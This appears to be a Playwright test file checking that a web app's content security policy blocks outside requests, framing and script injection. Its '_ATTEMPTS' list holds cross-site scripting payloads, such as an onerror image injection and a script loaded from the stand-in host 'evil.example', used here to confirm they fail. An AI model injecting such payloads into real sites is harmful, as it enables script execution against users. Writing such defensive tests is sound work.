"""What a page may do, and whom it talks to, as a real browser enforces it."""

import re
from collections.abc import Callable
from urllib.parse import urlsplit

import httpx
from playwright.sync_api import Browser, Page, Route, expect
from steps import go_to_photo, see_result, start_analysis, take_sample, words

from scalp_local.site import site_headers
from scalp_local.system import System

OpenPage = Callable[..., Page]

TILES = "tile.openstreetmap.org"
PAGES = ["/", "/#/history", "/#/statistics", "/#/clinics", "/#/photo", "/nothing"]


def _hosts(page: Page) -> set[str]:
    """Hosts of all requests from now on."""
    found: set[str] = set()
    page.on("request", lambda request: found.add(urlsplit(request.url).netloc))
    return found


def test_no_page_talks_to_strangers_but_the_map_to_its_tiles(
    open_page: OpenPage, running_system: System
) -> None:
    own = urlsplit(running_system.url).netloc
    page = open_page("/", tolerated="Failed to load resource")
    hosts = _hosts(page)
    for path in PAGES:
        page.goto("about:blank")
        page.goto(f"{running_system.url}{path}")
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        page.wait_for_load_state("networkidle")
        talked = {host for host in hosts if host}
        hosts.clear()
        assert talked <= ({own, TILES} if path == "/#/clinics" else {own}), path


def test_from_photo_to_result_only_the_photo_goes_elsewhere(
    open_page: OpenPage, running_system: System
) -> None:
    say = words("ko")
    page = open_page("/")
    sent: list[tuple[str, str]] = []
    page.on("request", lambda one: sent.append((one.method, urlsplit(one.url).netloc)))
    go_to_photo(page, say)
    take_sample(page, say)
    start_analysis(page, say)
    see_result(page, say)
    page.wait_for_load_state("networkidle")

    own = urlsplit(running_system.url).netloc
    elsewhere = [(method, host) for method, host in sent if host not in {own, ""}]
    policy = httpx.get(running_system.url).headers["content-security-policy"]
    (uploads,) = re.findall(r"connect-src 'self' https?://(\S+);", policy)
    assert {host for _, host in elsewhere} == {uploads}
    assert [method for method, _ in elsewhere if method == "POST"] == ["POST"]


_ATTEMPTS = [
    "document.body.innerHTML = '<img src=x onerror=\"window.harmed = true\">'",
    "document.body.insertAdjacentHTML('beforeend', '<b>text</b>')",
    "document.createElement('script').src = 'https://evil.example/x.js'",
    "document.createElement('script').text = 'window.harmed = true'",
    "new DOMParser().parseFromString('<script></script>', 'text/html')",
    "document.write('<script>window.harmed = true</script>')",
    "setTimeout('window.harmed = true')",
    "trustedTypes.createPolicy('other', { createHTML: (text) => text })",
    "navigator.serviceWorker.register('/other.js')",
]


def test_text_does_not_become_markup_or_script(open_page: OpenPage) -> None:
    page = open_page("/", tolerated="", service_worker=True)
    expect(page.get_by_role("heading", level=1)).to_be_visible()

    # The debugger may evaluate text; what it starts is under the page's policy.
    for attempt in _ATTEMPTS:
        said = page.evaluate(
            f"(async () => {{ try {{ await ({attempt}); return 'done' }} "
            "catch (error) { return `${error.name}: ${error.message}` } })()"
        )
        assert "TypeError" in said, attempt
    assert page.evaluate("window.harmed") is None


def test_nobody_frames_a_page(browser: Browser, running_system: System) -> None:
    page = browser.new_page()
    frame = f"{running_system.url}/framing"
    body = f"<iframe src='{running_system.url}/'></iframe>"
    page.route(frame, lambda route: route.fulfill(content_type="text/html", body=body))

    page.goto(frame)

    assert page.frames[-1].url.startswith("chrome-error:")
    page.context.close()


def test_the_apis_documentation_works_under_its_own_policy(
    open_page: OpenPage, running_system: System
) -> None:
    """CloudFront sends the site's headers with the API's answers, but where it has its own."""
    page = open_page("/")
    theirs = site_headers("https://uploads.example")

    def as_cloudfront(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, headers=theirs | answer.headers)

    page.route("**/api/v1/docs*", as_cloudfront)
    page.goto(f"{running_system.url}/api/v1/docs")
    page.locator(".opblock-summary-control").first.click()
    expect(page.locator(".opblock-body").first).to_be_visible()
